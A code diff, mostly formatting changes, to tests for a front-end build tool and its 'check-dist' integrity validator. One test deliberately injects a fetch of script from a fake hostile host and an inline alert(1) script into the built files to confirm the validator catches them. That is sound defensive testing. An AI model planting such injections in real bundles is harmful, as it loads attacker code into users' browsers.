@@ -43,10 +43,14 @@ mkdirSync(app, { recursive: true })
 for (const [name, text] of Object.entries(sources)) writeFileSync(join(app, name), text)
 
 function build(outdir: string, ...flags: string[]) {
-  execFileSync(process.execPath, ['--import', 'tsx', 'build.ts', '--entry', relative(root, join(app, 'main.tsx')), '--outdir', outdir, ...flags], {
-    cwd: root,
-    stdio: 'pipe',
-  })
+  execFileSync(
+    process.execPath,
+    ['--import', 'tsx', 'build.ts', '--entry', relative(root, join(app, 'main.tsx')), '--outdir', outdir, ...flags],
+    {
+      cwd: root,
+      stdio: 'pipe',
+    },
+  )
 }
 
 function files(dir: string): string[] {
@@ -75,7 +79,10 @@ test('hashed, split ESM under assets/ with linked source maps and licence files'
     assert.ok(all.includes(f + '.map'), `${f}.map`)
     assert.match(readFileSync(join(prod, f), 'utf8'), `//# sourceMappingURL=`)
   }
-  assert.ok(all.some((f) => /^assets\/main-[A-Z0-9]{8}\.css$/.test(f)), 'entry css')
+  assert.ok(
+    all.some((f) => /^assets\/main-[A-Z0-9]{8}\.css$/.test(f)),
+    'entry css',
+  )
   const entry = js.find((f) => f.startsWith('assets/main-'))!
   assert.match(readFileSync(join(prod, entry), 'utf8'), /^import/, 'ESM')
 })
@@ -120,7 +127,10 @@ test('defines: __PREVIEW__ and NODE_ENV; Preact, not React', () => {
 test('manifest lists every file with bytes, sha256, content type; siblings decode to their file', () => {
   const manifest = JSON.parse(readFileSync(join(prod, 'manifest.json'), 'utf8')) as Manifest
   const listed = manifest.files.map((f) => f.path).sort()
-  assert.equal(listed, files(prod).filter((f) => f !== 'manifest.json'))
+  assert.equal(
+    listed,
+    files(prod).filter((f) => f !== 'manifest.json'),
+  )
   for (const f of manifest.files) {
     const data = readFileSync(join(prod, f.path))
     assert.is(f.bytes, data.length, f.path)
@@ -138,7 +148,10 @@ test('manifest lists every file with bytes, sha256, content type; siblings decod
   assert.is(type(/\.svg$/), 'image/svg+xml')
   assert.is(type(/\.map$/), 'application/json')
   for (const ext of ['js', 'css', 'html', 'svg', 'map']) {
-    assert.ok(manifest.files.some((f) => f.path.endsWith(`.${ext}.br`)), `.${ext}.br`)
+    assert.ok(
+      manifest.files.some((f) => f.path.endsWith(`.${ext}.br`)),
+      `.${ext}.br`,
+    )
   }
 })
 
@@ -161,7 +174,10 @@ test('the metafile lands beside dist, and check-dist accepts the build', () => {
 test('check-dist catches a tampered file, an outside URL and inline code', () => {
   const js = files(prod).find((f) => f.startsWith('assets/Page-') && f.endsWith('.js'))!
   writeFileSync(join(prod, js), readFileSync(join(prod, js), 'utf8') + '\nfetch("https://cdn.example.net.evil/x.js")\n')
-  writeFileSync(join(prod, 'index.html'), readFileSync(join(prod, 'index.html'), 'utf8').replace('</head>', '<script>alert(1)</script></head>'))
+  writeFileSync(
+    join(prod, 'index.html'),
+    readFileSync(join(prod, 'index.html'), 'utf8').replace('</head>', '<script>alert(1)</script></head>'),
+  )
   const failures = analyzeDist(prod).failures.join('\n')
   assert.match(failures, `manifest: ${js} is`)
   assert.match(failures, 'https://cdn.example.net.evil/x.js')
